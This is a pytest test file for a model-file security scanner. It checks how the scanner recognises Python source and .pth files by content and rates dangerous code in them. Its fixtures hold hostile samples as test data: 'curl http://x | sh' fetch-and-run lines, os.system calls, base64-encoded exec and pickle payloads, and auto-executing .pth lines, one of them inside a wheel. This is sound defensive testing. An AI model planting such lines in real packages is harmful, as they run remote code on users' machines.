"""Python source and .pth files recognised by content wherever they stand, and checked against
what Python itself does with them."""

from __future__ import annotations

import base64
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from modelshield.core.findings import Severity
from modelshield.scanner.detect import detect
from modelshield.scanner.registry import Format
from tests.scanner.formats.conftest import EVIL_PICKLE, of, rules, scan, scan_bytes
from tests.scanner.repos.test_pysource import ORDINARY_MODEL

# ---- recognising Python source ------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (ORDINARY_MODEL, Format.PYTHON),
        ("#!/usr/bin/env python3\nprint('hi')\n", Format.PYTHON),
        ("x = 1\n" * 1000 + "import os\n", Format.PYTHON),  # imports after a long preamble
        ('"""' + "licence text. " * 2000 + '"""\nimport torch\n', Format.PYTHON),
        ("TEMPLATE = '{{ bos_token }}{% for m in messages %}{% endfor %}'\nimport os\n",
         Format.PYTHON),  # Python holding a chat template is Python, not a template
        ("import the data from the bucket before training\n", Format.TEXT),
        ("from here on, import nothing\n", Format.TEXT),
        ("hello\nworld\n", Format.TEXT),
        ("{{ bos_token }}{% for m in messages %}{{ m }}{% endfor %}", Format.JINJA),
        ('{"import": "os"}', Format.JSON),
    ],
)  # fmt: skip
def test_python_is_recognised_by_content(text: str, expected: Format) -> None:
    assert detect(memoryview(text.encode())) is expected


def test_text_that_only_looks_like_python_is_reported_as_text(tmp_path: Path) -> None:
    readme = "# Model\n\nUse it:\n\n```python\nfrom transformers import AutoModel\n```\n"
    result = scan_bytes(tmp_path, readme.encode(), "README.md")
    assert result.format == "text"
    assert result.findings == ()
    assert result.status == "complete"


def test_ordinary_model_code_is_python_without_findings(tmp_path: Path) -> None:
    result = scan_bytes(tmp_path, ORDINARY_MODEL.encode(), "modeling_tiny.py")
    assert result.format == "python"
    assert result.findings == ()
    assert result.metadata["python_relative_imports"] == ".configuration_tiny"
    assert "python_reaches" not in result.metadata


def test_a_script_that_runs_commands_is_medium(tmp_path: Path) -> None:
    source = "import subprocess as sp\n\ndef fetch():\n    sp.run('curl x | sh', shell=True)\n"
    result = scan_bytes(tmp_path, source.encode(), "setup_env")  # no .py: content decides
    [finding] = of(result, "PYTHON-DANGEROUS-CALL")
    assert finding.severity == Severity.MEDIUM
    assert finding.evidence["calls"] == "subprocess.run (line 4)"
    assert result.metadata["python_reaches"] == "process:subprocess.run:4"


def test_a_pickle_hidden_in_a_string_constant_is_analysed(tmp_path: Path) -> None:
    blob = base64.b64encode(EVIL_PICKLE * 3).decode()
    source = f"import pickle, base64\nSTATE = '{blob}'\n"
    result = scan_bytes(tmp_path, source.encode(), "state.py")
    assert {"METADATA-EMBEDDED-PICKLE", "PICKLE-CALL-DANGEROUS"} <= rules(result)


def test_python_in_an_archive_is_analysed(tmp_path: Path) -> None:
    path = tmp_path / "bundle.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("pkg/run.py", "import os\nos.system('id')\n")
    result = scan(path)
    [finding] = of(result, "PYTHON-DANGEROUS-CALL")
    assert finding.location.members == ("pkg/run.py",)
    assert "python_reaches" not in result.metadata  # a member's facts are not the zip's


def test_python_source_is_bounded(tmp_path: Path) -> None:
    big = ("import os\n" + "x = 1\n" * 400_000).encode()
    result = scan_bytes(tmp_path, big, "big.py", max_source_bytes=1 << 20)
    assert rules(result) == {"SCAN-LIMIT"}
    assert result.status == "incomplete"
    deep = ("import os\nx = " + "(" * 200_000 + "1" + ")" * 200_000 + "\n").encode()
    nested = scan_bytes(tmp_path, deep, "deep.py")
    assert nested.errors == ()
    assert nested.format == "text"  # Python's own parser refuses it: nothing imports it


# ---- .pth files ---------------------------------------------------------------------------


def _site_runs(tmp_path: Path, content: str) -> bool:
    """Whether Python's site module runs code from this .pth file (the loader wins): the
    file is placed in a fresh site directory that a child interpreter adds."""
    site_dir = tmp_path / "site"
    site_dir.mkdir(exist_ok=True)
    marker = tmp_path / "ran"
    marker.unlink(missing_ok=True)
    (site_dir / "probe.pth").write_text(content.replace("MARKER", str(marker)))
    code = f"import site; site.addsitedir({str(site_dir)!r})"
    subprocess.run([sys.executable, "-S", "-c", code], check=True, timeout=60)
    return marker.exists()


HOSTILE_PTH = "import os; open('MARKER', 'w').close(); os.system('true')\n"
PATHS_PTH = "# folders for this environment\n../vendor\n/opt/models/lib\nC:\\models\\lib\n"


def test_site_runs_the_import_lines_the_scanner_flags(tmp_path: Path) -> None:
    assert _site_runs(tmp_path, HOSTILE_PTH)
    assert not _site_runs(tmp_path, PATHS_PTH)
    hostile = scan_bytes(tmp_path, HOSTILE_PTH.encode(), "evil.pth")
    assert hostile.format == "python-pth"
    [finding] = of(hostile, "PTH-CODE")
    assert finding.severity == Severity.HIGH
    assert "os.system" in finding.message
    quiet = scan_bytes(tmp_path, PATHS_PTH.encode(), "paths.pth")
    assert quiet.format == "text"
    assert quiet.findings == ()


def test_a_pth_file_is_recognised_under_any_name(tmp_path: Path) -> None:
    content = "/usr/lib/extra\nimport base64; exec(base64.b64decode('aW1wb3J0IG9z'))\n"
    result = scan_bytes(tmp_path, content.encode(), "notes.txt")
    assert result.format == "python-pth"
    assert of(result, "PTH-CODE")[0].severity == Severity.HIGH


@pytest.mark.parametrize(
    ("name", "content", "severity"),
    [
        ("hook.pth", "import sys; sys.flags_seen = True\n", Severity.MEDIUM),
        ("hook.txt", "/opt/lib\nimport sys; sys.flags_seen = True\n", Severity.LOW),
        ("hook.pth", "import _my_finder\n", Severity.LOW),
        ("hook.pth", "import os\nimport sys\n", None),
        # Python named .pth: site runs the first line only (the second is taken for a path).
        ("hook.pth", "import os; os.system('id')\nprint('x')\n", Severity.HIGH),
        ("hook.pth", "import os\nos.system('id')\n", None),
    ],
)
def test_pth_severity_follows_what_runs(
    tmp_path: Path, name: str, content: str, severity: Severity | None
) -> None:
    result = scan_bytes(tmp_path, content.encode(), name)
    found = of(result, "PTH-CODE")
    assert [f.severity for f in found] == ([] if severity is None else [severity])
    assert "FORMAT-EXTENSION-MISMATCH" not in rules(result)


def test_a_pth_file_in_a_wheel_is_caught(tmp_path: Path) -> None:
    path = tmp_path / "pkg-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("pkg/__init__.py", "")
        zf.writestr("pkg-init.pth", "import os; os.system('curl http://x | sh')\n")
    [finding] = of(scan(path), "PTH-CODE")
    assert finding.severity == Severity.HIGH
    assert finding.location.members == ("pkg-init.pth",)


def test_a_text_file_named_like_a_module_is_read_as_python(tmp_path: Path) -> None:
    """``import`` runs a ``.py`` file whatever its first lines look like."""
    one_liner = b"__import__('os').system('curl http://x | sh')\n"
    assert detect(memoryview(one_liner)) is Format.TEXT
    result = scan_bytes(tmp_path, one_liner, "tool.py")
    assert result.format == "python"
    assert of(result, "PYTHON-DANGEROUS-CALL")[0].evidence["calls"] == "os.system (line 1)"
    assert scan_bytes(tmp_path, one_liner, "tool.txt").findings == ()
